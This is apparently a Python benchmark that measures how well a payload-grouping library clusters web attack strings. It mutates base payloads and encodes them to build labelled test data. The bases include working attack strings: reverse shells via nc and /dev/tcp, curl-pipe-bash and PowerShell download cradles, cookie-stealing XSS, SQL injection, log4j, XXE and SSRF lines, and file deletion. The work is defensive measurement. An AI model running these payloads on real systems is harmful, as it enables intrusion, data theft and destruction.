"""Groups of attack payloads: how many, how pure, how fast.

1. *Public strings*: the anomalous values of HttpParamsDataset (sqlmap, xssya, Vega, FuzzDB). How many groups, and how
   many strings are in groups of two or more.
2. *Mutations*: base attacks of several families, each written in many ways by the rules below. The base is the label:
   purity is the share of strings whose group is mostly of their own base, wholeness the share of each base's strings
   that its largest group holds.
3. *Speed*: strings per CPU second of `fit` and `table`, with distinct strings only.

The threshold was chosen on the bases of even rank and the strings of even rank; those of odd rank are shown beside
them. `--thresholds` shows all.

Rules of mutation (`mutated`): numbers, random names, hosts and hexadecimal strings are drawn anew; quotation marks
change; spaces become comments, tabs, line ends or plus signs; case changes at random; lists grow; what lets an attack
in and out is drawn from the lists of its family (values, brackets, tautologies, comments at the end; tags that are
closed; separators of commands; steps up); the whole is encoded (per cent signs once or twice or as %u, HTML entities,
escapes of JavaScript, base64) or not.
"""

from __future__ import annotations

import base64
import collections
import random
import re
import string
import time
from collections.abc import Callable, Sequence
from typing import Any
from urllib.parse import quote

import common
import nearkin as nk

SEED = 20261123
EACH = 60
"""Mutations of a base."""

# Marks in bases: <n> a name, <i> a number, <x> hexadecimal digits, <h> a host, <l:X> X once or often, with commas.
SQL = {
    "union": "union all select <l:null>",
    "union from": "union select <n>,<n> from <n>",
    "union users": "union select username,password from users",
    "union schema": "union select table_name from information_schema.tables where table_schema=database()",
    "order by": "order by <i>",
    "tautology": "or <i>=<i>",
    "sleep": "and sleep(<i>)",
    "sleep select": "and (select * from (select(sleep(<i>)))<n>)",
    "benchmark": "and <i>=benchmark(<i>,md5(<x>))",
    "extractvalue": "and extractvalue(<i>,concat(<x>,(select version()),<x>))",
    "updatexml": "and updatexml(<i>,concat(<x>,(select user()),<x>),<i>)",
    "floor rand": "and (select <i> from (select count(*),concat(<x>,floor(rand(0)*2))<n> "
    "from information_schema.tables group by <n>)<n>)",
    "exp": "and exp(~(select * from (select user())<n>))",
    "waitfor": ";waitfor delay '0:0:<i>'",
    "xp_cmdshell": ";exec master..xp_cmdshell 'ping <h>'",
    "sp_configure": ";exec sp_configure 'show advanced options',1;reconfigure",
    "pg_sleep": ";select pg_sleep(<i>)",
    "pg copy": ";copy <n> from program 'curl http://<h>/<n>'",
    "dbms_pipe": "and <i>=dbms_pipe.receive_message(chr(<i>)||chr(<i>)||chr(<i>),<i>)",
    "utl_inaddr": "and <i>=utl_inaddr.get_host_address((select banner from v$version where rownum=1))",
    "utl_http": "and utl_http.request('http://<h>/'||(select user from dual))='<n>'",
    "ctxsys": "and <i>=ctxsys.drithsx.sn(<i>,(select user from dual))",
    "randomblob": "and <i>=like('<n>',upper(hex(randomblob(<i>/2))))",
    "outfile": "union select '<n>' into outfile '/var/www/html/<n>.php'",
    "load_file": "union select load_file('/etc/passwd')",
    "drop": ";drop table <n>",
    "insert": ";insert into users(<n>) values('<n>')",
    "update": ";update users set password='<n>' where id=<i>",
    "shutdown": ";shutdown with nowait",
    "ascii": "and ascii(substring((select password from users limit 1),<i>,1))><i>",
    "case": "and (case when (<i>=<i>) then <i> else 1/(select 0) end)=<i>",
    "procedure": "procedure analyse(extractvalue(<i>,concat(<x>,version())),<i>)",
    "make_set": "and make_set(<i>=<i>,<i>)",
    "sqlite": "union select sql from sqlite_master where type='table'",
    "openrowset": ";select * from openrowset('sqloledb','<n>';'sa';'<n>','select <i>')",
    "into dumpfile": "union select <x> into dumpfile '/tmp/<n>.so'",
}
XSS = {
    "script": "<script>alert(<i>)</script>",
    "script src": "<script src=http://<h>/<n>.js></script>",
    "img onerror": "<img src=<n> onerror=alert(<i>)>",
    "svg onload": "<svg onload=alert(<i>)>",
    "body onload": "<body onload=alert('<n>')>",
    "iframe js": "<iframe src=javascript:alert(<i>)>",
    "a href": '<a href="javascript:alert(<i>)"><n></a>',
    "input focus": "<input autofocus onfocus=alert(<i>)>",
    "details": "<details open ontoggle=alert(<i>)>",
    "video": "<video><source onerror=alert(<i>)></video>",
    "marquee": "<marquee onstart=alert(<i>)>",
    "meta": '<meta http-equiv=refresh content="0;url=javascript:alert(<i>)">',
    "object data": '<object data="data:text/html;base64,<n>"></object>',
    "embed": '<embed src="http://<h>/<n>.swf" allowscriptaccess=always>',
    "style expression": '<div style="width:expression(alert(<i>))">',
    "style import": "<style>@import 'http://<h>/<n>.css';</style>",
    "link": "<link rel=stylesheet href=http://<h>/<n>.css>",
    "base": "<base href=http://<h>/>",
    "form": "<form action=http://<h>/><input type=submit></form>",
    "cookie": "<script>new Image().src='http://<h>/?c='+document.cookie</script>",
    "location": "<script>document.location='http://<h>/'+document.cookie</script>",
    "fetch": "<script>fetch('http://<h>/',{method:'post',body:localstorage.getitem('<n>')})</script>",
    "eval": "<img src=<n> onerror=eval(atob('<n>'))>",
    "fromcharcode": "<script>eval(string.fromcharcode(<l:65>))</script>",
    "write": "<script>document.write('<n>')</script>",
    "xmlhttp": "<script>var <n>=new xmlhttprequest();<n>.open('get','http://<h>/');<n>.send()</script>",
    "handler": '" onmouseover=alert(<i>) <n>="',
    "template": "{{constructor.constructor('alert(<i>)')()}}",
    "data": '<iframe src="data:text/html,<script>alert(<i>)</script>">',
}
SHELL = {
    "passwd": "cat /etc/passwd",
    "shadow": "cat /etc/shadow",
    "id": "id",
    "whoami": "whoami",
    "uname": "uname -a",
    "wget": "wget http://<h>/<n>.sh",
    "wget run": "wget http://<h>/<n> -O /tmp/<n>;chmod 777 /tmp/<n>;/tmp/<n>",
    "curl sh": "curl http://<h>/<n>.sh|bash",
    "ping": "ping -c <i> <h>",
    "sleep": "sleep <i>",
    "nc": "nc -e /bin/sh <h> <i>",
    "bash": "bash -i >& /dev/tcp/<h>/<i> 0>&1",
    "python": 'python -c \'import socket,subprocess,os;os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])\'',
    "ls": "ls -la /",
    "netstat": "netstat -an",
    "nslookup": "nslookup <n>.<h>",
    "dir": "dir c:\\windows",
    "powershell": "powershell -nop -w hidden -c iex(new-object net.webclient).downloadstring('http://<h>/<n>')",
    "certutil": "certutil -urlcache -split -f http://<h>/<n>.exe",
    "rm": "rm -rf /var/www",
    "echo": "echo <n> > /tmp/<n>.txt",
    "crontab": "crontab -l",
}
PATHS = {
    "passwd": "etc/passwd",
    "shadow": "etc/shadow",
    "environ": "proc/self/environ",
    "access log": "var/log/apache2/access.log",
    "boot.ini": "boot.ini",
    "win.ini": "windows/win.ini",
    "web.xml": "web-inf/web.xml",
    "htpasswd": "htpasswd",
    "id_rsa": "root/.ssh/id_rsa",
    "hosts": "windows/system32/drivers/etc/hosts",
}
OTHER = {
    "log4j": "${jndi:ldap://<h>/<n>}",
    "log4j lower": "${${lower:j}ndi:rmi://<h>/<n>}",
    "ssti config": "{{config.items()}}",
    "ssti mro": "{{''.__class__.__mro__[<i>].__subclasses__()}}",
    "ssti request": "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "ssti java": "${t(java.lang.runtime).getruntime().exec('id')}",
    "freemarker": '<#assign <n>="freemarker.template.utility.execute"?new()>${<n>("id")}',
    "ognl": "%{(#_memberaccess['allowstaticmethodaccess']=true).(@java.lang.runtime@getruntime().exec('id'))}",
    "xxe file": '<!doctype <n> [<!entity <n> system "file:///etc/passwd">]><n>',
    "xxe dtd": '<!doctype <n> [<!entity % <n> system "http://<h>/<n>.dtd"> %<n>;]>',
    "xinclude": '<xi:include href="file:///etc/passwd" parse="text"/>',
    "nosql ne": '{"username":{"$ne":null},"password":{"$ne":null}}',
    "nosql where": "';return this.password.match(/<n>/);var <n>='",
    "ldap": "*)(uid=*))(|(uid=*",
    "ldap class": "*)(objectclass=*",
    "php wrapper": "php://filter/convert.base64-encode/resource=<n>.php",
    "php input": "php://input",
    "php data": "data://text/plain;base64,<n>",
    "php eval": "eval(base64_decode('<n>'))",
    "php system": "<?php system($_get['<n>']);?>",
    "php assert": "assert(file_get_contents('http://<h>/<n>.txt'))",
    "php object": 'o:<i>:"<n>":1:{s:<i>:"file";s:<i>:"/etc/passwd";}',
    "ssrf metadata": "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "ssrf gopher": "gopher://127.0.0.1:<i>/_set",
    "ssi": '<!--#exec cmd="id"-->',
    "crlf": "%0d%0aset-cookie:<n>=<n>",
    "shellshock": "() { :;}; /bin/bash -c 'id'",
    "xpath": "' or count(/*)=1 or 'a'='b",
    "proto": '{"__proto__":{"<n>":true}}',
    "esi": "<esi:include src=http://<h>/<n>/>",
}
# Techniques of sqlmap in the public strings: the shortest string with this in it is a base of its own.
MARKS = [
    "dbms_utility.sqlid_to_sqlhash",
    "regexp_substring(repeat(right(char(",
    "crypt_key(char(",
    "rdb$fields",
    "sysibm.systables",
    "domain.domains",
    "generate_series(1,",
    "xmltype(chr(",
    "row(",
    "iif(",
    "dbms_lock.sleep",
    "drop function",
    "create or replace function sleep",
    "elt(",
]

WAYS_IN = [
    "{i}",
    "-{i}",
    "{i}'",
    '{i}"',
    "{i}')",
    "{i}'))",
    '{i}")',
    "{i}%'",
    "{i}%')))",
    "-{i}'",
    "{n}'",
    "{n}')",
    "{i})",
]
WHERE = ["", "", "", " where {i}={i}", " and {i}={i}", " or '{n}'='{m}'"]
WAYS_OUT = [
    "",
    "--",
    "-- ",
    "#",
    "-- {n}",
    " and '{n}'='{n}",
    " and ('{n}'='{n}",
    " and {i}={i}",
    " and '%'='",
    ";--",
    "/*",
    " or {i}={i}#",
]
TAGS_IN = ["", "", '">', "'>", '"><', "</script>", "</title>", "</textarea>", "{i}", '{n}">', "-->", "'\"()&%"]
TAGS_OUT = ["", "", "", "//", "<!--", " {n}", '"', "'"]
COMMANDS_IN = [";", "|", "||", "&", "&&", "{n};", "{n}|", "{i};", "`", "$(", "'; ", "\n", "{n}&& ", "/usr/bin/"]
COMMANDS_OUT = ["", "", ";", "|", "&", "#", " #", "`", ")", "||"]
STEPS = ["../", "..\\", "....//", "..//", "/../", "..%2f", "%2e%2e/", "..%c0%af", "%252e%252e%252f"]
PATHS_IN = ["", "/", "{n}/", "{n}?f=", "./"]
PATHS_OUT = ["", "", "%00", "%00.jpg", "?", "#"]


def _name(draw: random.Random) -> str:
    return "".join(draw.choices(string.ascii_lowercase, k=draw.randint(4, 9)))


def _host(draw: random.Random) -> str:
    if draw.random() < 0.4:
        return ".".join(str(draw.randint(1, 254)) for _ in range(4))
    return f"{_name(draw)}.{draw.choice(['com', 'net', 'org', 'example', 'test'])}"


def _filled(text: str, draw: random.Random) -> str:
    """Draws what the marks of a base stand for."""
    text = re.sub(r"<l:(.*?)>", lambda found: ",".join([found[1]] * draw.randint(1, 14)), text)
    ways: dict[str, Callable[[], str]] = {
        "n": lambda: _name(draw),
        "i": lambda: str(draw.randint(0, 10 ** draw.randint(1, 5))),
        "x": lambda: f"0x{draw.randrange(1 << 40):x}",
        "h": lambda: _host(draw),
    }
    return re.sub(r"<([nixh])>", lambda found: ways[found[1]](), text)


def _around(ways: Sequence[str], draw: random.Random) -> str:
    name = _name(draw)
    return draw.choice(ways).format(n=name, m=_name(draw), i=draw.randint(1, 9999))


def _case(text: str, draw: random.Random) -> str:
    return "".join(letter.upper() if draw.random() < 0.4 else letter for letter in text)


def _spaces(text: str, draw: random.Random) -> str:
    way = draw.choice(["/**/", "\t", "\n", "  ", " /**/ ", "/*{n}*/"])
    return text.replace(" ", way.format(n=_name(draw)))


def _percent(text: str) -> str:
    return quote(text, safe="")


def _plus(text: str) -> str:
    return _percent(text).replace("%20", "+")


def _entities(text: str) -> str:
    return "".join(letter if letter.isalnum() or letter == " " else f"&#{ord(letter)};" for letter in text)


def _escapes(text: str) -> str:
    return "".join(letter if letter.isalnum() or letter == " " else f"\\u{ord(letter):04x}" for letter in text)


def _wide(text: str) -> str:
    return "".join(f"%u{ord(letter):04x}" if letter in "'\"<>()= " else letter for letter in text)


def _base64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def mutated(family: str, base: str, draw: random.Random) -> str:
    """The base, written in one of many ways."""
    text = _filled(base, draw)
    if family == "sql":
        joined = "" if text.startswith(";") else " "
        text = _around(WAYS_IN, draw) + _around(WHERE, draw) + joined + text + _around(WAYS_OUT, draw)
        if joined and draw.random() < 0.3:
            text = text.replace(" and ", " or ", 1)
        if draw.random() < 0.3:
            text = text.replace("'", '"')
        if draw.random() < 0.3:
            text = _spaces(text, draw)
    elif family == "xss":
        text = _around(TAGS_IN, draw) + text + _around(TAGS_OUT, draw)
        if draw.random() < 0.3:
            text = re.sub(r"\balert\b", draw.choice(["prompt", "confirm"]), text)
    elif family == "shell":
        text = _around(COMMANDS_IN, draw) + text + _around(COMMANDS_OUT, draw)
        if draw.random() < 0.2:
            text = text.replace(" ", "${IFS}")
    elif family == "path":
        step = draw.choice(STEPS) * draw.randint(1, 12)
        return _around(PATHS_IN, draw) + step + text + _around(PATHS_OUT, draw)
    if draw.random() < 0.4:
        text = _case(text, draw)
    ways: list[Callable[[str], str]] = [
        _percent,
        _plus,
        lambda text: _percent(_percent(text)),
        _wide,
        _base64,
        _entities,
        _escapes,
    ]
    return draw.choice(ways)(text) if draw.random() < 0.5 else text


def bases(strings: Sequence[str]) -> list[tuple[str, str, str]]:
    """Family, label and text of each base: those above, and one of each mark among public strings."""
    own = [("sql", SQL), ("xss", XSS), ("shell", SHELL), ("path", PATHS), ("other", OTHER)]
    found = [(family, f"{family}: {name}", text) for family, all_ in own for name, text in all_.items()]
    for mark in MARKS:
        text = min((text for text in strings if mark in text), key=lambda text: (len(text), text))
        text = re.sub(r"\b\d+\b", "<i>", text)
        found.append(("other", f"sqlmap: {mark}", text))
    return found


def labelled(strings: Sequence[str], each: int = EACH, seed: int = SEED) -> tuple[list[str], list[str]]:
    """Payloads and the labels of their bases."""
    draw = random.Random(seed)
    payloads, labels = [], []
    for family, label, text in bases(strings):
        for payload in sorted({mutated(family, text, draw) for _ in range(each)}):
            payloads.append(payload)
            labels.append(label)
    return payloads, labels


def measured(groups: Sequence[Any], labels: Sequence[str]) -> dict[str, float]:
    """Purity, wholeness, and how many groups a base has."""
    by_group: dict[Any, collections.Counter[str]] = collections.defaultdict(collections.Counter)
    by_label: dict[str, collections.Counter[Any]] = collections.defaultdict(collections.Counter)
    for group, label in zip(groups, labels, strict=True):
        by_group[group][label] += 1
        by_label[label][group] += 1
    return {
        "strings": len(labels),
        "bases": len(by_label),
        "groups": len(by_group),
        "purity": sum(max(counts.values()) for counts in by_group.values()) / len(labels),
        "wholeness": sum(max(counts.values()) for counts in by_label.values()) / len(labels),
        "groups_a_base": sum(map(len, by_label.values())) / len(by_label),
    }


def _masked(payloads: Sequence[str]) -> list[Any]:
    """The plain rival: runs of digits masked, MinHash of three characters, connected components from 0.5."""
    masked = [re.sub(r"\d+", "0", payload) for payload in payloads]
    result = nk.dedup(masked, recipe="char:3|binary|xxh3|minhash:128", threshold=0.5, cluster="components")
    groups: list[Any] = list(range(len(payloads)))
    for row in result.clusters.rows():
        groups[int(row["id"])] = int(row["representative"])
    return groups


def _grouped(payloads: Sequence[str], threshold: float) -> list[Any]:
    return list(nk.PayloadGroups(threshold=threshold).fit(payloads).labels(payloads).to_pylist())


def counted(groups: Sequence[Any]) -> dict[str, float]:
    """How many groups, with those of one string, and the share of strings in groups of two or more."""
    sizes = collections.Counter(groups)
    alone = sum(size == 1 for size in sizes.values())
    return {
        "strings": len(groups),
        "groups": len(sizes),
        "strings_a_group": len(groups) / len(sizes),
        "alone": alone,
        "grouped": 1 - alone / len(groups),
    }


def _quality(
    strings: Sequence[str], payloads: Sequence[str], labels: Sequence[str], threshold: float
) -> dict[str, Any]:
    """Public strings and mutations: all, the half that the threshold was chosen on, and the other half."""
    rank = {label: place for place, label in enumerate(dict.fromkeys(labels))}
    found: dict[str, Any] = {}
    for name, half in (("all", None), ("chosen on", 0), ("shown on", 1)):
        some = strings if half is None else strings[half::2]
        rows = [row for row, label in enumerate(labels) if half is None or rank[label] % 2 == half]
        mine = [payloads[row] for row in rows]
        found[name] = {
            "public": counted(_grouped(some, threshold)),
            "mutations": measured(_grouped(mine, threshold), [labels[row] for row in rows]),
        }
    return found


def _speed(strings: Sequence[str], rounds: int = 5) -> dict[str, float]:
    """Strings per CPU second of one thread: fit and table, and labels."""
    many = list(dict.fromkeys(labelled(strings, each=2000)[0]))
    nk.set_num_threads(1)
    cpu: dict[str, list[float]] = {"fit and table, public": [], "fit and table, mutations": [], "labels, mutations": []}
    for _ in range(rounds):
        for name, payloads in (("fit and table, public", strings), ("fit and table, mutations", many)):
            groups = nk.PayloadGroups()
            start = time.process_time()
            groups.fit(payloads).table()
            cpu[name].append(len(payloads) / (time.process_time() - start))
        start = time.process_time()
        groups.labels(many)
        cpu["labels, mutations"].append(len(many) / (time.process_time() - start))
    nk.set_num_threads(None)
    return {**{name: sorted(values)[rounds // 2] for name, values in cpu.items()}, "mutations": len(many)}


def main() -> None:
    """Measures, and leaves a file in bench/runs."""
    given = common.arguments(__doc__, ("--thresholds", {"action": "store_true", "help": "all thresholds"}))
    strings = [row["text"] for row in common.records(given.data, "url_httpparams_train") if row["label"] == "anom"]
    payloads, labels = labelled(strings)
    found: dict[str, Any] = {"quality": _quality(strings, payloads, labels, nk.PayloadGroups()._threshold)}
    found["rival"] = {"public": counted(_masked(strings)), "mutations": measured(_masked(payloads), labels)}
    if given.thresholds:
        found["thresholds"] = {
            str(threshold): _quality(strings, payloads, labels, threshold)
            for threshold in (0.5, 0.55, 0.59, 0.62, 0.65, 0.7)
        }
    found["speed"] = _speed(strings)
    path = common.save("patterns-payloads", found, versions=common.versions())
    print(path.read_text(encoding="utf-8"))


if __name__ == "__main__":
    main()
